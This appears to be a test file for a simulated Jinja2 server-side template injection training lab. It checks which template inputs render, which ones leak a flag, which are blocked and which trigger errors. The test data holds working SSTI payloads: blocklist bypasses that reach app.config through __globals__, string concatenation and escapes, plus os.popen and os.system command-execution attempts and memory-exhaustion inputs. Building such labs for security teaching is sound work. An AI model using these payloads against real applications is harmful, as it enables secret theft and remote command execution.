import { describe, expect, it } from 'vitest';

import { expectFlag, expectNoFlag, runLab } from '../lab-test-helpers.js';

import { serverSideTemplateInjectionLab } from './server-side-template-injection.js';

function render(name: string) {
  return runLab(serverSideTemplateInjectionLab, 'render', { name });
}

describe('server-side-template-injection lab: detection', () => {
  it.each([
    ['{{7*7}}', '<p>Hello 49!</p>'],
    ["{{7*'7'}}", '<p>Hello 7777777!</p>'],
    ['{{ 10/4 }} {{ 2**10 }} {{ -3 // 2 }}', '<p>Hello 2.5 1024 -2!</p>'],
    ["{{ 'a' ~ 1 }}{# hidden #}", '<p>Hello a1!</p>'],
    ['{{ nothing }}', '<p>Hello !</p>'],
    ['{{ request.method }} {{ request.form.name|length }}', '<p>Hello POST 51!</p>'],
    ['<b>bob</b>', '<p>Hello <b>bob</b>!</p>'],
  ])('%j renders %j', (name, html) => {
    const result = render(name);
    expect(result.output.text).toBe(html);
    expectNoFlag(result);
  });
});

describe('server-side-template-injection lab: ways around the blocklist reach app.config', () => {
  it.each([
    ['|attr and concatenation', "{{ url_for.__globals__.current_app|attr('con'~'fig') }}"],
    ['a subscript with +', "{{ url_for.__globals__['current_app']['con'+'fig'] }}"],
    ['a \\x escape', "{{ get_flashed_messages.__globals__.current_app['\\x63onfig'].FLAG }}"],
    ['the application’s __dict__', '{{ url_for.__globals__.current_app.__dict__ }}'],
    ['items() after all', "{{ (url_for.__globals__.current_app|attr('conf' 'ig')).items() }}"],
    ['a join of a list', "{{ url_for.__globals__.current_app[['con','fig']|join] }}"],
    ['values of the globals, by index', '{{ (url_for.__globals__.values()|list)[3].__dict__ }}'],
  ])('%s: %j', (_name, name) => {
    const result = render(name);
    expect(result.code).toBe('flag-read');
    expectFlag(result);
  });
});

describe('server-side-template-injection lab: near-misses fail', () => {
  it.each([
    '{{ config }}',
    '{{ config.items() }}',
    '{{ CONFIG }}',
    '{{ self.__dict__ }}',
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ lipsum.__globals__.os.popen('cat flag').read() }}",
    "{{ cycler.__init__.__globals__.__builtins__.__import__('os') }}",
  ])('%j is blocked', (name) => {
    const result = render(name);
    expect(result).toMatchObject({ code: 'blocked', output: { status: '403' } });
    expectNoFlag(result);
  });

  it.each([
    ['the secret key is not the flag', '{{ url_for.__globals__.current_app.secret_key }}'],
    ['werkzeug’s globals hold no app', '{{ request.application.__globals__ }}'],
    ['jinja2.utils has os, not the app', '{{ lipsum.__globals__ }}'],
    ['os.environ holds no flag', '{{ lipsum.__globals__.os.environ }}'],
    ['processes are forbidden', "{{ lipsum.__globals__.os|attr('po'~'pen') }}"],
  ])('%s: %j', (_name, name) => {
    const result = render(name);
    expect(result.ok).toBe(false);
    expectNoFlag(result);
  });

  it.each([
    ['a syntax error', '{{ 7*'],
    ['an unknown filter', '{{ 1|nope }}'],
    ['a call on an undefined name', '{{ nothing() }}'],
    ['running a process', "{{ (lipsum.__globals__.os|attr('sys'~'tem'))('id') }}"],
    ['a huge string', "{{ 'x' * 1000000 }}"],
    ['a statement tag', '{% for x in range(3) %}x{% endfor %}'],
  ])('answers 500 without detail: %s', (_name, name) => {
    expect(render(name)).toMatchObject({ code: 'server-error', output: { status: '500', text: 'Internal Server Error' } });
  });

  it('answers unknown-action to anything else', () => {
    expect(runLab(serverSideTemplateInjectionLab, 'eval', { name: '{{7*7}}' }).code).toBe('unknown-action');
  });
});

describe('server-side-template-injection lab: bounded work', () => {
  const heavy = "{{('a'*99999)|list|length}}".repeat(70);
  it.each([
    ['a join that would build ten billion characters', "{{ ('a'*99999)|list|join('b'*99999) }}"],
    ['a replace that would build ten billion characters', "{{ ('a'*99999)|replace('', 'b'*99999) }}"],
    ['seventy big lists in one template', heavy],
  ])('answers %s as the app would (MemoryError: 500), without the flag', (_, name) => {
    expect(name.length).toBeLessThanOrEqual(2000);
    const result = runLab(serverSideTemplateInjectionLab, 'render', { name });
    expect(result).toMatchObject({ code: 'server-error', output: { status: '500' } });
    expectNoFlag(result);
  });
});
